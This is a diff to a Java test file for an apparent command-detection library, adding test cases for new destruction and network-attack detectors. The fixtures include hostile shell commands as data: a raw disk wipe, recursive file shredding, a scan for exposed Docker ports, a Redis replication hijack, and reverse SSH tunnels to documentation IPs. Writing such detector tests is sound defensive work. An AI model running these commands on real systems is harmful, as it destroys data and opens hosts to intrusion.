@@ -5,8 +5,10 @@ import static org.assertj.core.api.Assertions.assertThat;
 import io.hivesec.detectors.execution.ContainerEscapeCommandDetector;
 import io.hivesec.detectors.execution.CredentialAccessCommandDetector;
 import io.hivesec.detectors.execution.DefenceEvasionCommandDetector;
+import io.hivesec.detectors.execution.DestructionCommandDetector;
 import io.hivesec.detectors.execution.ExfiltrationDetector;
 import io.hivesec.detectors.execution.MinerDetector;
+import io.hivesec.detectors.execution.NetworkAttackDetector;
 import io.hivesec.detectors.execution.PersistenceCommandDetector;
 import io.hivesec.detectors.execution.PrivilegeEscalationCommandDetector;
 import io.hivesec.detectors.execution.RemoteCodeDetector;
@@ -153,6 +155,32 @@ final class DetectorContractsTest {
         @Override
         public List<Event> incident() {
             return shellRuns("ssh -fNR 2222:localhost:22 u@203.0.113.5", "ssh -fNR 3333:localhost:22 u@203.0.113.6");
+        }
+    }
+
+    @Nested
+    class Destruction implements DetectorContract {
+        @Override
+        public Detector detector() {
+            return new DestructionCommandDetector();
+        }
+
+        @Override
+        public List<Event> incident() {
+            return shellRuns("dd if=/dev/zero of=/dev/sda", "find /srv -type f -exec shred -u {} \\;");
+        }
+    }
+
+    @Nested
+    class NetworkAttack implements DetectorContract {
+        @Override
+        public Detector detector() {
+            return new NetworkAttackDetector();
+        }
+
+        @Override
+        public List<Event> incident() {
+            return shellRuns("zmap -p 2375 10.0.0.0/8", "redis-cli -h 10.0.0.5 slaveof 203.0.113.9 6379");
         }
     }
 
